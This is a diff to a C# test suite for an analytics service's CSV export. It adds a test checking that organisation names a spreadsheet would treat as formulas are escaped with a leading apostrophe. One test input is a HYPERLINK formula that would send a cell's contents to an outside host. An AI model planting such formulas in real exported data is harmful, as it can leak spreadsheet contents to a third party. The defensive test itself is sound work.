@@ -31,6 +31,23 @@ public sealed class CsvExportTests
         Assert.Equal(table.Header.Count, row.Count);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1:A2)")]
+    public async Task ANameASpreadsheetWouldRunAsAFormulaIsExportedAsText(string name)
+    {
+        await using var app = await AnalyticsApp.StartAsync();
+        await app.Service<OrgRegistry>().PutAsync(new OrgInfo("GX0003", name, OrgLevel.Grassroots, OrgKind.Enterprise, "450102"));
+        await app.SetMembersAsync("GX0003", 10, employees: 20);
+
+        var table = await app.GetCsvAsync("/api/v1/orgs/450102/children.csv");
+
+        Assert.Equal("'" + name, table.Cell(0, "名称"));
+        Assert.Equal("10", table.Cell(0, "会员人数"));
+    }
+
     [Fact]
     public async Task AcceptHeaderAndCsvSuffixGiveTheSameTable()
     {
